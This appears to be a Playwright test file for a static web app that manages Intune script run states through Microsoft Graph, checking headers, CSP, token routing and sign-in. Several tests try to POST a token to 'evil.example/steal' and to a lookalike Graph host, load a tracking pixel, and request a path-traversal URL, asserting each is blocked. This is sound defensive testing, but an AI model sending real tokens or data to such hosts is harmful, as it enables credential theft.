// The deployable site as production runs it: dist/site/ (`make site`) served by
// scripts/serve-site.mjs with the headers of its staticwebapp.config.json, not by graph-mock, and
// opened in headless Chromium without demo mode. The clouds' Graph roots are routed by Playwright
// to graph-mock (method, headers and body kept; graph-mock's status, headers and body returned,
// with its own address in them replaced by the root the page called, as Graph's nextLinks name
// Graph). Every other request is recorded, and aborted unless it is for the site itself.
// Run: make test-site (or node scripts/build-site.mjs && scripts/with-mock.sh -- node --test tests/site/)
import { after, before, test } from "node:test";
import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { existsSync, readFileSync, readdirSync, statSync } from "node:fs";
import { request as httpRequest } from "node:http";
import { join, relative } from "node:path";
import { fileURLToPath } from "node:url";
import { serveSite } from "../../scripts/serve-site.mjs";
import { DEMO_ONLY, IMMUTABLE } from "../../scripts/site-config.mjs";
import { CLOUDS } from "../../www/js/settings.js";
import { MOCK, RUN, fakeCloud, launch, mock } from "../page/helpers.mjs";

const ROOT = fileURLToPath(new URL("../../", import.meta.url));
const SITE_DIR = join(ROOT, "dist/site");
const ROOTS = Object.fromEntries(Object.entries(CLOUDS).map(([cloud, c]) => [cloud, c.graph]));
const EVIL = "https://evil.example";

let site; // the static server
let browser;
const seen = []; // every request the browser made outside the site: { host, method, path, query, authorization }

/** Every file under dist/site/, as paths relative to it. */
function files(dir = SITE_DIR) {
  return readdirSync(dir).flatMap((name) => (statSync(join(dir, name)).isDirectory() ? files(join(dir, name)) : [relative(SITE_DIR, join(dir, name))]));
}
const config = () => JSON.parse(readFileSync(join(SITE_DIR, "staticwebapp.config.json"), "utf8"));

before(async () => {
  assert.ok(existsSync(join(SITE_DIR, "staticwebapp.config.json")), "dist/site is not built: run make site (node scripts/build-site.mjs)");
  site = await serveSite({ dir: SITE_DIR });
  browser = await launch();
  const graphRoots = new Map(Object.values(ROOTS).map((r) => [new URL(r).host, r]));
  // One handler for every request (routes added later, as fakeCloud's, take precedence).
  await browser.context.route(() => true, async (route) => {
    const req = route.request();
    const url = new URL(req.url());
    if (url.origin === site.url) return route.continue();
    seen.push({ host: url.host, method: req.method(), path: url.pathname, query: url.search, authorization: (await req.allHeaders()).authorization });
    const root = graphRoots.get(url.host);
    if (!root || url.protocol !== "https:") return route.abort("blockedbyclient");
    const answer = await route.fetch({ url: `${MOCK}${url.pathname}${url.search}` });
    const headers = {};
    for (const { name, value } of answer.headersArray()) {
      if (name.toLowerCase() === "content-length") continue;
      const v = value.replaceAll(MOCK, root);
      headers[name] = headers[name] ? `${headers[name]}, ${v}` : v;
    }
    return route.fulfill({ status: answer.status(), headers, body: (await answer.body()).toString("utf8").replaceAll(MOCK, root) });
  });
});
after(async () => {
  await browser?.close();
  await site?.close();
});

/** Opens the built page; records console messages, page errors and CSP violations. */
async function open(path = "/") {
  const page = await browser.context.newPage();
  const log = { console: [], errors: [] };
  page.on("console", (m) => log.console.push(`${m.type()}: ${m.text()}`));
  page.on("pageerror", (e) => log.errors.push(e.message));
  const main = await page.goto(site.url + path);
  await page.waitForSelector("body[data-ready]");
  return { page, log, main };
}

/** Saves the cloud in the Settings form (the page reloads) and waits for the page again. */
async function chooseCloud(page, cloud) {
  await page.click("#settings > summary");
  await page.selectOption("#cloud", cloud);
  await Promise.all([page.waitForEvent("load"), page.click("#settingsSave")]);
  await page.waitForSelector("body[data-ready]");
}

async function createOne(page, upn) {
  await page.fill("#userPrincipalName", upn);
  await page.click("#createSubmit");
  await page.waitForFunction((name) => document.querySelector("#createdFacts")?.textContent.includes(name) || document.querySelector("#createResult .alert.error"), upn);
  const error = page.locator("#createResult .alert.error");
  if (await error.count()) assert.fail(`the page reported: ${await error.innerText()}`);
  return (await page.locator("#createdId").innerText()).trim();
}

/**
 * CSP violations while the page tries to reach `urls` (fetch) and load `images`: `violations`
 * once per directive and URI (each policy that refuses reports it), `byHeader` the URIs that the
 * policy sent as a header refused (its frame-ancestors tells it from the meta policies), and
 * whether each fetch failed.
 */
async function violations(page, urls, images = []) {
  const { out, refused } = await page.evaluate(async ([targets, pictures]) => {
    const out = [];
    const listener = (e) => out.push({ directive: e.effectiveDirective, blocked: e.blockedURI, header: e.originalPolicy.includes("frame-ancestors") });
    document.addEventListener("securitypolicyviolation", listener);
    const refused = [];
    for (const url of targets) {
      await fetch(url, { method: "POST", body: "token=x" }).then(
        () => refused.push(false),
        (e) => refused.push(e instanceof TypeError),
      );
    }
    for (const src of pictures) {
      await new Promise((resolve) => {
        const img = new Image();
        img.onload = img.onerror = resolve;
        img.src = src;
      });
    }
    await new Promise((r) => setTimeout(r, 200));
    document.removeEventListener("securitypolicyviolation", listener);
    return { out, refused };
  }, [urls, images]);
  const unique = [...new Map(out.map((v) => [`${v.directive} ${v.blocked}`, { directive: v.directive, blocked: v.blocked }])).values()];
  return { violations: unique, byHeader: [...new Set(out.filter((v) => v.header).map((v) => v.blocked))], refused };
}

/** Waits until the page has listed the scripts by name (it does once a token is there); returns the status line. */
async function scriptsListed(page) {
  await page.waitForFunction(() => ["loaded", "error"].includes(document.querySelector("#scriptsStatus").dataset.state));
  const text = await page.locator("#scriptsStatus").innerText();
  assert.equal(await page.getAttribute("#scriptsStatus", "data-state"), "loaded", text);
  return text;
}

const SCRIPTS_PATH = "/beta/deviceManagement/deviceManagementScripts";

const TOKENISH = [/eyJ[\w-]{8,}\.[\w-]{8,}/, /Bearer\s+[\w.~+/-]{16,}/, /demo-token|seed-token|fake-access-token/];

test("the built folder: the two pages, sample.csv and content-hashed assets; no demo-only file, no token", () => {
  const all = files().sort();
  const assets = all.filter((f) => f.startsWith("assets/"));
  assert.deepEqual(all.filter((f) => !f.startsWith("assets/")), ["index.html", "redirect.html", "sample.csv", "staticwebapp.config.json"]);
  const names = [];
  for (const f of assets) {
    const m = /^assets\/(.+)\.([0-9a-f]{12})(\.[a-z]+)$/.exec(f);
    assert.ok(m, `${f} has a content hash in its name`);
    assert.equal(createHash("sha256").update(readFileSync(join(SITE_DIR, f))).digest("hex").slice(0, 12), m[2], `${f}: the hash is its content's`);
    names.push(m[1] + m[3]);
  }
  const pageModules = readdirSync(join(ROOT, "www/js")).filter((f) => !DEMO_ONLY.includes(`js/${f}`));
  assert.deepEqual(names.sort(), [
    ...pageModules, "icon.svg", "intune_script_user_state.js", "intune_script_user_state_bg.wasm",
    "msal-browser.min.js", "msal-redirect-bridge.min.js", "style.css",
  ].sort());
  for (const f of DEMO_ONLY) assert.ok(existsSync(join(ROOT, "www", f)), `${f} is demo-only in www/`);
  assert.deepEqual(all.filter((f) => /demo/i.test(f)), [], "no demo-only file");
  for (const f of all) {
    const text = readFileSync(join(SITE_DIR, f)).toString("latin1");
    for (const pattern of TOKENISH) assert.doesNotMatch(text, pattern, `${f} holds something like a token`);
    assert.doesNotMatch(text, /demoBanner|demo-script|demo\.css|import\("\.\/demo\.js"\)/, `${f} holds demo mode`);
  }
  // The page loads only what the folder holds, by hashed name.
  const index = readFileSync(join(SITE_DIR, "index.html"), "utf8");
  const refs = [...index.matchAll(/\s(?:src|href)="([^"#]+)"/g)].map((m) => m[1]);
  assert.deepEqual(refs.filter((r) => !existsSync(join(SITE_DIR, r))), []);
  assert.ok(refs.some((r) => /^assets\/app\.[0-9a-f]{12}\.js$/.test(r)) && refs.includes("sample.csv"));
  const app = readFileSync(join(SITE_DIR, assets.find((f) => f.startsWith("assets/app."))), "utf8");
  assert.match(app, /await Promise\.resolve\(null\)/, "app.js's import of demo mode is gone");
});

test("headers, as staticwebapp.config.json gives them: CSP, COOP but not on redirect.html, application/wasm, cache", async () => {
  const c = config();
  const csp = readFileSync(join(SITE_DIR, "index.html"), "utf8").match(/http-equiv="Content-Security-Policy" content="([^"]+)"/)[1];
  assert.equal(c.globalHeaders["Content-Security-Policy"], `${csp}; frame-ancestors 'none'`, "the header is index.html's own policy");
  assert.equal(c.globalHeaders["Cross-Origin-Opener-Policy"], "same-origin");
  const bridge = c.routes.find((r) => r.route === "/redirect.html");
  assert.equal(bridge.headers["Cross-Origin-Opener-Policy"], "", "an empty value removes the global header on Azure Static Web Apps");
  assert.deepEqual(c.mimeTypes, { ".wasm": "application/wasm" });

  const get = (path, headers = {}) => fetch(site.url + path, { headers });
  for (const path of ["/", "/index.html"]) {
    const r = await get(path);
    assert.equal(r.status, 200);
    assert.equal(r.headers.get("content-type"), "text/html; charset=utf-8");
    assert.equal(r.headers.get("content-security-policy"), `${csp}; frame-ancestors 'none'`);
    assert.equal(r.headers.get("cross-origin-opener-policy"), "same-origin");
    assert.equal(r.headers.get("cache-control"), "no-cache");
    assert.equal(r.headers.get("x-content-type-options"), "nosniff");
    const again = await get(path, { "if-none-match": r.headers.get("etag") });
    assert.equal(again.status, 304, "no-cache revalidates");
  }
  const redirect = await get("/redirect.html");
  assert.equal(redirect.status, 200);
  assert.equal(redirect.headers.get("cross-origin-opener-policy"), null, "redirect.html is served without COOP");
  assert.match(redirect.headers.get("content-security-policy"), /script-src 'self'.*; frame-ancestors 'self'$/);
  assert.equal(redirect.headers.get("cache-control"), "no-store");
  assert.match(await redirect.text(), /assets\/msal-redirect-bridge\.min\.[0-9a-f]{12}\.js/);

  const wasm = files().find((f) => f.endsWith(".wasm"));
  const w = await get(`/${wasm}`);
  assert.equal(w.headers.get("content-type"), "application/wasm");
  assert.equal(w.headers.get("cache-control"), IMMUTABLE);
  assert.deepEqual(new Uint8Array(await w.arrayBuffer()).slice(0, 4), new Uint8Array([0, 0x61, 0x73, 0x6d]));
  const js = await get(`/${files().find((f) => f.startsWith("assets/app."))}`);
  assert.equal(js.headers.get("content-type"), "text/javascript; charset=utf-8");
  assert.equal(js.headers.get("cache-control"), IMMUTABLE);

  for (const path of ["/staticwebapp.config.json", "/js/app.js", "/js/demo.js", "/demo.css", "/pkg/intune_script_user_state_bg.wasm", "/nothing"]) {
    assert.equal((await get(path)).status, 404, path);
  }
  assert.equal((await fetch(`${site.url}/`, { method: "POST" })).status, 405);
  const raw = (path, host) =>
    new Promise((resolve, reject) => {
      httpRequest({ host: "127.0.0.1", port: site.port, path, headers: host ? { host } : {} }, (res) => resolve(res.statusCode)).on("error", reject).end();
    });
  assert.equal(await raw("/%2e%2e/package.json"), 404, "nothing outside the folder");
  assert.equal(await raw("/", "evil.example"), 421, "loopback names only");
});

test("a pasted token creates, lists page by page and imports, through graph.microsoft.com (routed to graph-mock)", async () => {
  seen.length = 0;
  const scriptId = `site-paste-${RUN}`;
  const token = `pasted-${RUN}-9c41e`;
  const { page, log, main } = await open("/");
  try {
    assert.equal(main.headers()["cross-origin-opener-policy"], "same-origin");
    assert.match(await page.locator("#connection").innerText(), /^global https:\/\/graph\.microsoft\.com · /);
    assert.equal(await page.locator("#demoBanner").count(), 0);
    await mock.scripts({ id: scriptId, displayName: `Site ${RUN} script` });
    await page.fill("#token", token);
    // With a token there, the scripts are listed by name from graph.microsoft.com; one is chosen.
    assert.match(await scriptsListed(page), /^\d+ Windows PowerShell scripts?: type a name to search\.$/);
    await page.fill("#scriptId", `site ${RUN}`);
    await page.keyboard.press("Enter");
    assert.equal(await page.inputValue("#scriptId"), scriptId);

    const id = await createOne(page, "ada@contoso.com");
    const held = await mock.objects(scriptId);
    assert.deepEqual(held.map((o) => [o.id, o.userPrincipalName]), [[id, "ada@contoso.com"]]);
    assert.equal((await mock.requests(scriptId))[0].headers.authorization, `Bearer ${token}`);

    // Manage: 12 in all, pages of 10; the second page comes from the nextLink (on Graph's host).
    await mock.seed(scriptId, Array.from({ length: 11 }, (_, i) => ({ userPrincipalName: `user${i}@contoso.com`, successDeviceCount: i, errorDeviceCount: 0 })));
    await page.click("#tab-manage");
    await page.selectOption("#pageSize", "10");
    await page.click("#listLoad");
    await page.waitForFunction(() => document.querySelectorAll("#listBody tr").length === 10 || document.querySelector("#manageStatus .alert.error"));
    await page.click("#listMore");
    await page.waitForFunction(() => document.querySelectorAll("#listBody tr").length === 12 || document.querySelector("#manageStatus .alert.error"));
    assert.equal(await page.locator("#listBody tr").count(), 12, await page.locator("#manageStatus").innerText());
    const lists = seen.filter((s) => s.method === "GET" && s.path.endsWith("/userRunStates"));
    assert.equal(lists.length, 2, "two list pages from Graph");
    assert.match(lists[0].query, /^\?\$top=10$|^\?%24top=10$/);
    assert.notEqual(lists[1].query, lists[0].query, "the second page is the nextLink, followed on graph.microsoft.com");

    // Bulk import: three rows through $batch.
    await page.click("#tab-import");
    const csv = "userPrincipalName,successDeviceCount,errorDeviceCount\r\nb1@contoso.com,1,0\r\nb2@contoso.com,0,2\r\nb3@contoso.com,3,3\r\n";
    await page.setInputFiles("#csvFile", { name: "users.csv", mimeType: "text/csv", buffer: Buffer.from(csv) });
    await page.locator("#preview").waitFor();
    await page.click("#importStart");
    await page.locator("#results").waitFor();
    assert.match(await page.locator("#resultsSummary").innerText(), /^3 created, 0 failed/);
    const after = await mock.objects(scriptId);
    assert.equal(after.length, 15);
    assert.deepEqual(after.filter((o) => /^b\d@/.test(o.userPrincipalName)).map((o) => o.userPrincipalName).sort(), ["b1@contoso.com", "b2@contoso.com", "b3@contoso.com"]);
    assert.ok(seen.some((s) => s.method === "POST" && s.path === "/beta/$batch"), "the import went through $batch");

    // Only graph.microsoft.com was contacted, each time with the pasted token.
    assert.deepEqual([...new Set(seen.map((s) => s.host))], ["graph.microsoft.com"]);
    // The run summary the report opens with is read beside the list (in either order).
    const summaryPath = `/beta/deviceManagement/deviceManagementScripts/${scriptId}/runSummary`;
    assert.deepEqual(seen.filter((s) => s.path === summaryPath && s.method !== "OPTIONS").map((s) => [s.method, s.authorization]), [["GET", `Bearer ${token}`]]);
    const calls = seen.filter((s) => s.method !== "OPTIONS" && s.path !== summaryPath);
    const base = `/beta/deviceManagement/deviceManagementScripts/${scriptId}/userRunStates`;
    assert.deepEqual(calls.map((s) => [s.method, s.path, s.authorization]), [
      ["GET", SCRIPTS_PATH, `Bearer ${token}`],
      ["POST", base, `Bearer ${token}`],
      ["GET", base, `Bearer ${token}`],
      ["GET", base, `Bearer ${token}`],
      // The import: the comparison shown before anything is written, the sync's own, then its
      // creates in $batch: the run's first write alone (issue 17), the rest once its answer is in.
      ["GET", base, `Bearer ${token}`],
      ["GET", base, `Bearer ${token}`],
      ["POST", "/beta/$batch", `Bearer ${token}`],
      ["POST", "/beta/$batch", `Bearer ${token}`],
    ]);
    assert.deepEqual(log.errors, []);
    assert.deepEqual(log.console.filter((m) => /Content Security Policy|MIME|instantiateStreaming/i.test(m)), [], "no CSP violation, the wasm streamed as application/wasm");
  } finally {
    await page.evaluate(() => localStorage.clear());
    await page.close();
  }
});

test("the CSP blocks a request to any other host: refused in the page, never sent", async () => {
  seen.length = 0;
  const { page } = await open("/");
  // Chromium reports a request for an image the CSP blocks, then fails it as "csp" (never sent).
  const requested = [];
  page.on("request", (r) => requested.push(r));
  try {
    await page.fill("#token", `pasted-${RUN}`);
    await scriptsListed(page); // the one request a token brings (to graph.microsoft.com); not what is tested here
    seen.length = 0;
    requested.length = 0;
    const blocked = [`${EVIL}/steal`, "https://graph.microsoft.com.evil.example/beta/", `${EVIL}/pixel.png`];
    const { violations: v, byHeader, refused } = await violations(page, blocked.slice(0, 2), blocked.slice(2));
    assert.deepEqual(v, [
      { directive: "connect-src", blocked: blocked[0] },
      { directive: "connect-src", blocked: blocked[1] },
      { directive: "img-src", blocked: blocked[2] },
    ]);
    assert.deepEqual(byHeader, blocked, "the header policy refused each of them too");
    assert.deepEqual(refused, [true, true], "each fetch failed");
    // A script from elsewhere cannot even be written into the page (Trusted Types), let alone load.
    const script = await page.evaluate(() => {
      try {
        document.createElement("script").src = "https://evil.example/x.js";
        return "assigned";
      } catch (e) {
        return e.name;
      }
    });
    assert.equal(script, "TypeError");
    assert.deepEqual(seen, [], "no request left the browser");
    const elsewhere = requested.filter((r) => !r.url().startsWith(site.url));
    assert.deepEqual(elsewhere.map((r) => [r.url(), r.failure()?.errorText]), [[blocked[2], "csp"]]);
  } finally {
    await page.evaluate(() => localStorage.clear());
    await page.close();
  }
});

test("each cloud's settings send the token to that cloud's Graph root only", async () => {
  for (const [cloud, root] of Object.entries(ROOTS)) {
    seen.length = 0;
    const scriptId = `site-${cloud}-${RUN}`;
    const token = `token-${cloud}-${RUN}`;
    const { page, log } = await open("/");
    try {
      if (cloud !== "global") await chooseCloud(page, cloud);
      assert.equal(await page.inputValue("#cloud"), cloud);
      assert.equal(await page.locator("#connection").innerText(), `${cloud} ${root} · not signed in`);
      await page.fill("#token", token);
      await scriptsListed(page);
      await page.fill("#scriptId", scriptId);
      const id = await createOne(page, `${cloud}@contoso.com`);
      assert.deepEqual((await mock.objects(scriptId)).map((o) => o.id), [id]);
      const others = Object.values(ROOTS).filter((r) => r !== root);
      const { violations: v } = await violations(page, others.map((r) => `${r}/beta/deviceManagement/deviceManagementScripts`));
      assert.deepEqual(v.map((x) => x.blocked), others.map((r) => `${r}/beta/deviceManagement/deviceManagementScripts`), "the other roots are refused");
      assert.deepEqual([...new Set(seen.map((s) => `https://${s.host}`))], [root], `${cloud}: only its root was contacted`);
      const calls = seen.filter((s) => s.method !== "OPTIONS");
      assert.deepEqual(calls.map((s) => [s.method, s.path, s.authorization]), [
        ["GET", SCRIPTS_PATH, `Bearer ${token}`],
        ["POST", `/beta/deviceManagement/deviceManagementScripts/${scriptId}/userRunStates`, `Bearer ${token}`],
      ]);
      assert.deepEqual(log.errors, []);
    } finally {
      await page.evaluate(() => localStorage.clear());
      await page.close();
    }
  }
});

test("sign in with Microsoft on the built site: the popup answers through redirect.html (no COOP) to the page (COOP)", async () => {
  seen.length = 0;
  const { context } = browser;
  const clientId = "11111111-2222-4333-8444-555555555555";
  const cloud = await fakeCloud(context, { login: "https://login.microsoftonline.us", graph: "https://graph.microsoft.us", clientId });
  const bridges = [];
  const onResponse = (r) => new URL(r.url()).pathname === "/redirect.html" && bridges.push(r.headers());
  context.on("response", onResponse);
  const { page, log } = await open("/");
  const scriptId = `site-msal-${RUN}`;
  try {
    await page.evaluate((id) => localStorage.setItem("intune-user-states.settings", JSON.stringify({ cloud: "usgov", clientId: id, tenant: "contoso.onmicrosoft.us", tokenSource: "msal" })), clientId);
    const [reloaded] = await Promise.all([page.waitForResponse((r) => r.url() === `${site.url}/`), page.reload()]);
    assert.equal(reloaded.headers()["cross-origin-opener-policy"], "same-origin");
    await page.waitForSelector("body[data-ready]");
    assert.equal(await page.locator("#redirectUri").textContent(), `${site.url}/redirect.html`);
    await page.click("#signIn");
    await page.locator("#account strong").waitFor();
    assert.equal(await page.locator("#account").innerText(), "Signed in as ada@contoso.us");
    assert.equal(cloud.log.authorize[0].redirect_uri, `${site.url}/redirect.html`);
    assert.ok(bridges.length >= 1 && bridges.every((h) => !("cross-origin-opener-policy" in h)), "redirect.html came without COOP");
    await page.fill("#scriptId", scriptId);
    await createOne(page, "signed-in@contoso.us");
    assert.equal(cloud.log.graph.at(-1).authorization, `Bearer ${cloud.log.issued.at(-1)}`);
    assert.equal((await mock.objects(scriptId)).length, 1);
    assert.deepEqual(seen, [], "nothing but the fake authority and Graph root was contacted");
    assert.deepEqual(log.errors, []);
  } finally {
    context.off("response", onResponse);
    await cloud.stop();
    await page.evaluate(() => localStorage.clear()).catch(() => {});
    await page.close();
  }
});

test("?demo=1 on the built site is the ordinary page: no banner, no demo token, no request for demo files", async () => {
  seen.length = 0;
  const { page, log } = await browser.context.newPage().then(async (p) => {
    const l = { requests: [], errors: [] };
    p.on("request", (r) => l.requests.push(new URL(r.url()).pathname));
    p.on("pageerror", (e) => l.errors.push(e.message));
    await p.goto(`${site.url}/?demo=1`);
    await p.waitForSelector("body[data-ready]");
    return { page: p, log: l };
  });
  try {
    assert.equal(await page.locator("#demoBanner").count(), 0);
    assert.equal(await page.inputValue("#token"), "");
    assert.equal(await page.inputValue("#scriptId"), "");
    assert.match(await page.locator("#connection").innerText(), /^global https:\/\/graph\.microsoft\.com/);
    assert.ok(await page.locator("#sourceMsal").isEnabled());
    assert.deepEqual(log.requests.filter((p) => /demo/.test(p)), []);
    assert.deepEqual(log.errors, []);
  } finally {
    await page.close();
  }
});
